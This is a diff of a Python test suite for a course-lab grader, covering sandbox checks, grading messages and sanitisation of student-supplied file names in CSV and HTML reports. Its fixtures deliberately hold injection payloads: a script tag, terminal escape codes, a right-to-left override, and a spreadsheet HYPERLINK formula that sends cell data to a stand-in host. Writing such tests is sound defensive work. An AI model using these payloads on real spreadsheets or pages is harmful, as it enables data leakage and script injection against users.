@@ -24,7 +24,7 @@ from course import Course, Test
 from lab import build, main, manifest
 from lab.errors import LabError
 from lab.instructor import grader, reports, slurm, speed
-from lab.judge import judging, submissions
+from lab.judge import judging, sandbox, submissions
 from lab.judge.sandbox import InfraError
 from lab.leaderboard import boards, machine, measuring
 from lab.leaderboard.result import Busy, NoResult
@@ -33,6 +33,8 @@ from lab.verbs.instructor import grade
 
 SCHEMA = json.loads((Path(__file__).parents[2] / "grading/results.schema.json").read_text())
 PATH = "part1_softmax_matmul/skeleton/fused_cpu.cpp"
+NO_FILE = "it holds no file; ./lab bundle packs those that are graded"
+NO_ZIP = "the zip cannot be read (File is not a zip file); ./lab bundle makes one that can"
 HOSTILE = '</pre><script>alert(1)</script> ``` | "x" \x1b[31m'
 
 
@@ -94,7 +96,8 @@ class Class(Course):
         self.patch(judging, judge=self.judge, set_up=lambda *_: mock.MagicMock(folder=self.root,
                                                                           seconds_a_call=20),
                    can_judge=lambda task, folder: task in self.tasks)
-        self.patch(grade.sandbox, trouble=lambda: "")
+        self.trouble = sandbox.trouble
+        self.patch(sandbox, trouble=lambda: "")
 
     def submit(self, name, **files):
         for task, text in files.items():
@@ -224,9 +227,14 @@ class Grade(Class):
 
     def test_without_a_sandbox_nothing_is_graded(self):
         self.submit("ann", fused_cpu="passed 1 of 1")
-        self.patch(grade.sandbox, trouble=lambda: "bubblewrap is not installed")
+        self.patch(sandbox, trouble=lambda: "bubblewrap is not installed")
         self.assertEqual(self.graded(code=1), "lab: bubblewrap is not installed\n")
         self.assertFalse(self.out.exists())
+
+    def test_a_limit_that_the_judge_cannot_work_under_is_said_before_anybody_is_graded(self):
+        self.patch(sandbox.resource, getrlimit=lambda _: (1 << 33, 1 << 33))
+        self.patch(sandbox.shutil, which=lambda name: f"/usr/bin/{name}")
+        self.assertRegex(self.trouble(), "8589934592 bytes of address space, .* without `ulimit -v`")
 
     def test_one_submission_more_keeps_the_others(self):
         for name in ("ann", "bob"):
@@ -256,10 +264,10 @@ class Grade(Class):
         (self.all / "empty").mkdir()
         text = self.graded()
         both = "part1.fused_cpu, part1.measure"
-        expected = {"broken": f"does not compile: {both}", "empty": "it holds no file",
+        expected = {"broken": f"does not compile: {both}", "empty": NO_FILE,
                     "half": "missing: part1.measure", "other": f"missing: {both}",
                     "refused": "refused: part1.fused_cpu; not started: part1.measure",
-                    "right": "", "unreadable": "the zip cannot be read: File is not a zip file",
+                    "right": "", "unreadable": NO_ZIP,
                     "wrong": f"wrong: {both}"}
         self.assertEqual({name: row["why"] for name, row in self.table().items()}, expected)
         self.assertEqual([line for line in text.splitlines() if "has 0 points" in line], [
@@ -268,7 +276,7 @@ class Grade(Class):
         page = (self.out / "index.html").read_text()
         for why in ("does not compile", "missing", "refused", "not started", "wrong"):
             self.assertIn(f'0<br><span class="soft">{why}</span></td>', page)
-        for why in ("it holds no file", "the zip cannot be read: File is not a zip file"):
+        for why in (NO_FILE, NO_ZIP):
             self.assertIn(f'</a><br><span class="soft">{why}</span></div>', page)
 
     def test_a_bundle_of_another_version_is_graded_and_says_so(self):
@@ -351,9 +359,9 @@ class OneDoesNotStopTheClass(Class):
         rows = self.after(**damaged | {"many.zip": many_entries(), "cut.zip": packed()[:-3]})
         self.assertEqual({name: row["score"] for name, row in rows.items()},
                          dict.fromkeys(("bzip2", "cut", "deflate", "lzma", "many"), "0"))
-        for name, why in (("bzip2", "unusual method; ./lab bundle makes"), ("lzma", "unusual"),
+        for name, why in (("bzip2", "unusual method); ./lab bundle makes"), ("lzma", "unusual"),
                           ("many", "more than 20000 files; ./lab bundle"),
-                          ("deflate", "the zip cannot be read: "), ("cut", "cannot be read: ")):
+                          ("deflate", "the zip cannot be read ("), ("cut", "cannot be read (")):
             self.assertIn(why, rows[name]["why"])
 
     def test_names_that_are_those_of_results_or_become_one(self):
@@ -366,6 +374,21 @@ class OneDoesNotStopTheClass(Class):
         self.assertIn("good.zip", rows)
         self.assertEqual({place.name for place in self.out.iterdir() if not place.name.isdigit()},
                          {"grades.csv", "index.html"})
+
+    def test_text_of_a_student_is_no_formula_and_no_code_of_a_page(self):
+        formula = '=HYPERLINK("http://x?"&A1)/fused_cpu.cpp'
+        rows = self.after(**{
+            "path.zip": packed(b"\0" * (1 << 21), formula), "=1+1.zip": packed(),
+            "x;=1.zip": packed(), "\uff1d1.zip": packed(), "\x1b[2J\u202ex.zip": b"",
+            "[a](http:x)<b>.zip": packed(), "a\n=1,=2.zip": packed()})
+        for row in rows.values():
+            for cell in row.values():
+                self.assertNotRegex(cell, "(^|[;,|])[\\s\"]*[=+@\uff1d-]")
+        self.assertEqual(rows["path"]["why"], f"'{formula} is larger than 1048576 bytes, and no "
+                                              "solution is")
+        page = (self.out / "index.html").read_text()
+        self.assertIn("[a](http:x)&lt;b&gt;</a>", page)
+        self.assertNotIn("\u202e", page)
 
     def test_links_and_pipes_are_not_followed(self):
         self.write("secret/part1_softmax_matmul/skeleton/fused_cpu.cpp", "// passed 1 of 1")
